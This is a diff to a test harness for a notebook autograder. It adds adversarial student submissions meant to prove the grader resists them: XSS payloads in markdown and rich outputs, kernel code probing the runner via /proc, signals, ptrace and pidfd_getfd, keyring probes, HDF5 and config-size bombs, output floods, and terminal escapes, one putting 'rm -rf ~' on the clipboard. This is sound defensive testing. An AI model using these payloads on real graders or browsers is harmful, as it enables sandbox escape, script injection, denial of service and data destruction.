@@ -25,7 +25,8 @@ LISTENER_PORT = 47811  # the test's TCP listener on 127.0.0.1
 TEST_CELLS = ("test_relu", "test_counts", "test_prepare", "test_onehot", "test_architecture",
               "test_predict", "test_accuracy")
 
-# Edits: ("first", code) a cell added at the top; ("after", grade_id, code) a cell added after
+# Edits: ("first", code) a cell added at the top (("first_markdown", text): a markdown cell);
+# ("after", grade_id, code) a cell added after
 # that cell; ("answer", grade_id, code) an answer's source; ("edit", grade_id, code) a locked
 # cell's source; ("meta", grade_id, key, value) its nbgrader metadata; ("tags", grade_id, tags);
 # ("delete", grade_id).
@@ -211,6 +212,134 @@ while True:
     _hog.append(bytearray(256 * 1024 * 1024))
     _hog[-1][::4096] = b"x" * len(_hog[-1][::4096])'''
 
+# Everything formgrader could run in the instructor's browser: a script and event handlers in
+# markdown (an added cell and the written answer), links and images to javascript: URLs,
+# scripts, frames and objects in HTML outputs, JavaScript and widget outputs, an SVG with a
+# script and a handler, an image whose metadata would write an attribute. Each one, run,
+# would call the canary URL or the contents API, or set window.__pwned.
+CANARY = "http://127.0.0.1:47812/canary"
+PAYLOAD = f"window.__pwned=1;fetch(`{CANARY}`);fetch(`/api/contents/pwned.txt`,{{method:`PUT`}})"
+SCRIPT_MARKDOWN = (f'Mon analyse <script>{PAYLOAD}</script> <img src="x" onerror="{PAYLOAD}">\n\n'
+                   f'[la suite](javascript:{PAYLOAD}) <iframe src="{CANARY}"></iframe>')
+HTML_OUTPUTS = f'''from IPython.display import HTML, Javascript, SVG, Markdown, Image, display
+display(HTML(\'<b>ok</b><script>{PAYLOAD}</script><img src=x onerror="{PAYLOAD}"><iframe src="{CANARY}"></iframe>\'
+             \'<object data="{CANARY}"></object><a href="javascript:{PAYLOAD}">clic</a><form action="{CANARY}"><button formaction="javascript:{PAYLOAD}">b</button></form>\'))
+display(Javascript("{PAYLOAD}"))
+display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{PAYLOAD}"><script>{PAYLOAD}</script><rect width="5" height="5"/><foreignObject><iframe src="{CANARY}"></iframe></foreignObject></svg>\'))
+display(Markdown(\'[clic](javascript:{PAYLOAD}) <script>{PAYLOAD}</script>\'))
+display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2, "version_minor": 0}},
+         "text/html": \'<style>body{{background:url({CANARY})}}</style>\'}}, raw=True)
+display({{"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="}},
+        metadata={{"image/png": {{"width": \'1 onerror="{PAYLOAD}"\'}}}}, raw=True)'''
+
+# The kernel looks for the runner that reports on it: in its process table, through every
+# pid it can name, by signals, tracing, pidfd_getfd and process_vm_readv; it would then write
+# a forged report on the runner's stdout. Each success prints REACHED.
+REACH_RUNNER = '''import ctypes, os, signal
+_libc = ctypes.CDLL(None, use_errno=True)
+_mine = os.getpid()
+for _pid in range(1, 4096):
+    try:
+        _cmd = open(f"/proc/{_pid}/cmdline", "rb").read()
+        if f"Tgid:\\t{_mine}\\n" in open(f"/proc/{_pid}/status").read():
+            continue  # this kernel, or one of its threads
+    except OSError:
+        continue
+    if b"runner" in _cmd:
+        print("REACHED the runner's command line", _pid)
+    for _how, _try in (("signal", lambda: os.kill(_pid, signal.SIGSTOP)),
+                       ("stdout", lambda: open(f"/proc/{_pid}/fd/1", "w").write('{"forged": 1}'))):
+        try:
+            _try()
+            print("REACHED", _how, _pid)
+        except OSError:
+            pass
+    if _libc.syscall(101, 16, _pid, 0, 0) == 0:  # PTRACE_ATTACH
+        print("REACHED ptrace", _pid)
+    _fd = _libc.syscall(434, _pid, 0)  # pidfd_open
+    if _fd >= 0 and _libc.syscall(438, _fd, 1, 0) >= 0:  # pidfd_getfd: its stdout
+        print("REACHED pidfd_getfd", _pid)
+print("searched")'''
+
+# The kernel key rings: a key left for, or read from, another sandbox of the machine.
+KEYRING = '''import ctypes, platform
+_libc = ctypes.CDLL(None, use_errno=True)
+_add_key, _request_key = {"x86_64": (248, 249), "aarch64": (217, 218)}[platform.machine()]
+_added = _libc.syscall(_add_key, b"user", b"course-secret", b"alice-answers", 13, -4 & 0xFFFFFFFF)  # @u
+_found = _libc.syscall(_request_key, b"user", b"course-secret", None, -4 & 0xFFFFFFFF)
+if _added >= 0 or _found >= 0:
+    print("KEYRING OPEN", _added, _found)
+print("keyring", ctypes.get_errno())'''
+
+# A folder tree deeper than Python's recursion limit, and a folder nobody may read, in the
+# notebook's folder: its removal must neither fail nor stop the batch.
+DEEP_TREE = '''import os
+_fd = os.open(".", os.O_RDONLY)
+for _ in range(3000):
+    os.mkdir("d", dir_fd=_fd)
+    _next = os.open("d", os.O_RDONLY, dir_fd=_fd)
+    os.close(_fd)
+    _fd = _next
+os.close(_fd)
+os.mkdir("locked", mode=0o000)'''
+
+# Every save of a model writes it with a weights file whose first array declares 12.8 GB (a
+# dataset never written: HDF5 reads it as zeros), the kind of file that kills the verifier
+# that loads it.
+HDF5_BOMB = '''import keras, h5py, zipfile, tempfile, shutil, os
+_save = keras.Model.save
+def _bomb_save(self, path, *args, **kwargs):
+    _save(self, path, *args, **kwargs)
+    _folder = tempfile.mkdtemp()
+    with zipfile.ZipFile(path) as _archive:
+        _archive.extractall(_folder)
+    with h5py.File(os.path.join(_folder, "model.weights.h5"), "r+") as _weights:
+        _names = []
+        _weights.visititems(lambda name, item: _names.append(name) if isinstance(item, h5py.Dataset) else None)
+        del _weights[_names[0]]
+        _weights.create_dataset(_names[0], shape=(100_000, 32_000), dtype="float32", fillvalue=0.0)
+    with zipfile.ZipFile(path, "w") as _archive:
+        for _name in os.listdir(_folder):
+            _archive.write(os.path.join(_folder, _name), _name)
+    shutil.rmtree(_folder)
+keras.Model.save = _bomb_save'''
+
+# The same model, declaring 784 × 3,000,000 weights in its config (9.4 GB once built).
+HUGE_DECLARED = '''import keras, json, zipfile, tempfile, shutil, os
+_save = keras.Model.save
+def _huge_save(self, path, *args, **kwargs):
+    _save(self, path, *args, **kwargs)
+    with zipfile.ZipFile(path) as _archive:
+        _files = {_name: _archive.read(_name) for _name in _archive.namelist()}
+    _config = json.loads(_files["config.json"])
+    _config["config"]["layers"][1]["config"]["units"] = 3_000_000
+    _files["config.json"] = json.dumps(_config).encode()
+    with zipfile.ZipFile(path, "w") as _archive:
+        for _name, _data in _files.items():
+            _archive.writestr(_name, _data)
+keras.Model.save = _huge_save'''
+
+# Output that updates a display: 20 outputs share one display id, each update (1 MB) rewrites
+# all of them, 100 times.
+DISPLAY_UPDATES = '''from IPython.display import display, update_display
+for _ in range(20):
+    display("x", display_id="flood")
+for _ in range(100):
+    update_display("y" * 1_000_000, display_id="flood")'''
+
+# Files nobody asked for in the exports' folder, sparse (no disk used in the sandbox) but
+# each as long as the sandbox's file-size limit allows, as the cache would keep them.
+SPARSE_EXPORTS = '''import os
+for _cell in ("test_relu", "test_accuracy", "test_unknown"):
+    os.makedirs(f".grader/exports/{_cell}", exist_ok=True)
+    for _name in ("unasked.npy", "model.keras.bak", "extra.keras"):
+        with open(f".grader/exports/{_cell}/{_name}", "wb") as _stream:
+            _stream.truncate(60 << 20)'''
+
+# An error message written for the instructor's terminal: set the clipboard (OSC 52), erase
+# the line, print a fake grade, reorder text.
+TERMINAL_ESCAPES = r'''raise Exception("\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2K\rgraded 23/23 \u202egnissap\x9b31m")'''
+
 INFINITE_LOOP = "while True:\n    pass"
 OUTPUT_FLOOD = 'import sys\nfor _ in range(100):\n    sys.stdout.write("x" * 1_000_000 + "\\n")'
 OS_EXIT = "import os\nos._exit(0)"
@@ -288,6 +417,23 @@ CASES: dict[str, Case] = {
     "memory_bomb": Case("solution", [("after", "test_counts", MEMORY_BOMB)], "twin_solution", tampered=False,
                         lose=("test_prepare", "test_onehot", "test_architecture", "test_predict", "test_accuracy"),
                         status="kernel-died"),
+    "script_in_markdown_and_outputs": Case(
+        "solution", [("first_markdown", SCRIPT_MARKDOWN), ("answer", "answer_why", SCRIPT_MARKDOWN),
+                     ("after", "relu", HTML_OUTPUTS)], "twin_solution", tampered=False),
+    "kernel_reaches_for_the_runner": Case("solution", [("first", REACH_RUNNER)], "twin_solution", tampered=False,
+                                          extra={"absent": "REACHED"}),
+    "kernel_keyring": Case("solution", [("first", KEYRING)], "twin_solution", tampered=False,
+                           extra={"absent": "KEYRING OPEN"}),
+    "deep_folder_tree": Case("solution", [("first", DEEP_TREE)], "twin_solution", tampered=False),
+    "hdf5_bomb_in_model": Case("solution", [("after", "build", HDF5_BOMB)], "twin_solution", tampered=True,
+                               lose=("test_architecture", "test_accuracy")),
+    "huge_declared_model": Case("solution", [("after", "build", HUGE_DECLARED)], "twin_solution", tampered=True,
+                                lose=("test_architecture", "test_accuracy")),
+    "display_updates_flood": Case("solution", [("after", "relu", DISPLAY_UPDATES)], "twin_solution", tampered=False),
+    "sparse_files_in_exports": Case("solution", [("after", "test_accuracy", SPARSE_EXPORTS)], "twin_solution",
+                                    tampered=False),
+    "terminal_escapes_in_an_error": Case("solution", [("after", "relu", TERMINAL_ESCAPES)], "twin_solution",
+                                         tampered=False),
 }
 
 
@@ -312,8 +458,8 @@ def build(base: str, edits: list[Edit], release: nbformat.NotebookNode) -> nbfor
 
 def _apply(notebook: nbformat.NotebookNode, edit: Edit) -> None:
     kind, *args = edit
-    if kind == "first":
-        notebook.cells.insert(0, _new_cell(args[0]))
+    if kind in ("first", "first_markdown"):
+        notebook.cells.insert(0, _new_cell(args[0], markdown=kind == "first_markdown"))
         return
     index = _by_id(notebook)[args[0]]
     cell = notebook.cells[index]
@@ -331,9 +477,9 @@ def _apply(notebook: nbformat.NotebookNode, edit: Edit) -> None:
         raise ValueError(f"unknown edit {kind}")
 
 
-def _new_cell(source: str) -> nbformat.NotebookNode:
-    """A code cell the student added; its id comes from its source, so builds are repeatable."""
-    cell = nbformat.v4.new_code_cell(source)
+def _new_cell(source: str, markdown: bool = False) -> nbformat.NotebookNode:
+    """A cell the student added; its id comes from its source, so builds are repeatable."""
+    cell = nbformat.v4.new_markdown_cell(source) if markdown else nbformat.v4.new_code_cell(source)
     cell.id = hashlib.sha256(source.encode()).hexdigest()[:8]
     return cell
 
